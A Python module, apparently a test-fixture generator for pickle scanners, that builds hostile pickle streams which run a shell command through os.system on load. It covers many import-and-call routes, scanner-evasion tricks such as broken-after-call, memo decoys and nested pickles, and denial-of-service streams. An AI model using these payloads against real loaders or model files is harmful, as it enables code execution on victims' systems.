"""Hostile pickle streams, written opcode by opcode: every road to an import and a call.

The payload is harmless (it runs the command it is given); what is real is the road.
"""

from __future__ import annotations

import struct
from collections.abc import Callable

Builder = Callable[[str, str, str], bytes]
"""(module, name, argument) to a stream that would call ``module.name(argument)``."""


def short_text(text: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE, whichever holds the text."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def global_reduce(module: str, name: str, argument: str) -> bytes:
    """Protocol 2: GLOBAL, one-tuple, REDUCE."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + short_text(argument) + b"\x85R."


def unmarked_global_reduce(module: str, name: str, argument: str) -> bytes:
    """Protocol 0, which has no marker at its start: plain text."""
    return b"c" + f"{module}\n{name}\n(V{argument}\ntR.".encode()


def stack_global_reduce(module: str, name: str, argument: str) -> bytes:
    """Protocol 4: STACK_GLOBAL from two texts."""
    return b"\x80\x04" + short_text(module) + short_text(name) + b"\x93" + short_text(argument) + b"\x85R."


def instance(module: str, name: str, argument: str) -> bytes:
    """INST: class and call in one opcode."""
    return b"(" + short_text(argument) + b"i" + f"{module}\n{name}\n.".encode()


def object_(module: str, name: str, argument: str) -> bytes:
    """OBJ: class and arguments above a mark."""
    return b"\x80\x02(c" + f"{module}\n{name}\n".encode() + short_text(argument) + b"o."


def newobj(module: str, name: str, argument: str) -> bytes:
    """NEWOBJ: ``cls.__new__(cls, argument)``."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + short_text(argument) + b"\x85\x81."


def newobj_ex(module: str, name: str, argument: str) -> bytes:
    """NEWOBJ_EX with empty keywords."""
    return b"\x80\x04c" + f"{module}\n{name}\n".encode() + short_text(argument) + b"\x85}\x92."


def memo_drift(module: str, name: str, argument: str) -> bytes:
    """STACK_GLOBAL whose operands come from the memo, with MEMOIZE and PUT mixed and decoys in between."""
    decoys = short_text("collections") + b"\x94" + short_text("OrderedDict") + b"q\x07"
    real = short_text(module) + b"q\x00" + short_text(name) + b"\x94"
    return b"\x80\x04" + decoys + b"00" + real + b"00h\x00h\x02\x93" + short_text(argument) + b"\x85R."


def popped_result(module: str, name: str, argument: str) -> bytes:
    """The call's result is thrown away and an honest dict returned."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + short_text(argument) + b"\x85R0}."


def duplicated(module: str, name: str, argument: str) -> bytes:
    """DUP and POP around the callable."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"20" + short_text(argument) + b"\x85R."


def build_state(module: str, name: str, argument: str) -> bytes:
    """BUILD on an instance: its ``__setstate__`` would run."""
    return (
        b"\x80\x02c"
        + f"{module}\n{name}\n".encode()
        + b")\x81}"
        + short_text("a")
        + short_text(argument)
        + b"sb."
    )


def broken_after_call(module: str, name: str, argument: str) -> bytes:
    """The stream breaks once the call has run (known as nullifAI)."""
    return global_reduce(module, name, argument)[:-1] + b"\xff\xff"


def truncated_after_call(module: str, name: str, argument: str) -> bytes:
    """No STOP: the call has run by then."""
    return global_reduce(module, name, argument)[:-1]


def second_pickle(module: str, name: str, argument: str) -> bytes:
    """An honest pickle first, the hostile one behind its STOP."""
    return b"\x80\x02}." + global_reduce(module, name, argument)


def in_a_frame(module: str, name: str, argument: str) -> bytes:
    """Protocol 4 with a frame."""
    body = stack_global_reduce(module, name, argument)[2:]
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


ROUTES: dict[str, Builder] = {
    "global-reduce": global_reduce,
    "unmarked-global-reduce": unmarked_global_reduce,
    "stack-global": stack_global_reduce,
    "inst": instance,
    "obj": object_,
    "newobj": newobj,
    "newobj-ex": newobj_ex,
    "memo-drift": memo_drift,
    "popped-result": popped_result,
    "dup": duplicated,
    "build": build_state,
    "broken-after-call": broken_after_call,
    "truncated-after-call": truncated_after_call,
    "second-pickle": second_pickle,
    "frame": in_a_frame,
}
"""Every road by name."""


def pickle_that_would_run(command: str, route: str = "global-reduce") -> bytes:
    """A pickle that hands a shell command to ``os.system`` when it is loaded.

    Args:
        command: keep it harmless, such as ``touch`` of a marker file.
        route: a key of :data:`ROUTES`.
    """
    return ROUTES[route]("os", "system", command)


def computed_name(command: str) -> bytes:
    """STACK_GLOBAL whose name is the result of another call."""
    name = b"c_codecs\ndecode\n" + b"C\x06system" + b"\x85R"
    return b"\x80\x04" + short_text("os") + name + b"\x93" + short_text(command) + b"\x85R."


def attribute_chain(command: str) -> bytes:
    """``getattr`` of an import, then a call of what it returned."""
    reach = (
        b"cbuiltins\ngetattr\ncimportlib\nimport_module\n"
        + short_text("os")
        + b"\x85R"
        + short_text("system")
    )
    return b"\x80\x02" + reach + b"\x86R" + short_text(command) + b"\x85R."


def alters_import() -> bytes:
    """BUILD on an allowed class itself: rewrites its attributes for everyone."""
    state = b"}" + short_text("setdefault") + b"cposix\nsystem\n" + b"s"
    return b"\x80\x02ccollections\nOrderedDict\n" + state + b"b."


def nested(command: str) -> bytes:
    """The hostile pickle lies in a bytes literal of an honest one."""
    inner = pickle_that_would_run(command)
    return b"\x80\x03}" + short_text("data") + b"C" + bytes([len(inner)]) + inner + b"s."


def extension_code() -> bytes:
    """An import by a number that only the loading process can resolve."""
    return b"\x80\x02\x82\x01)R."


def huge_literal() -> bytes:
    """A literal that states 2**62 bytes."""
    return b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"x."


def deep_nesting(depth: int = 200_000) -> bytes:
    """Tuples in tuples: a recursive reader overflows its stack."""
    return b"\x80\x02)" + b"\x85" * depth + b"."
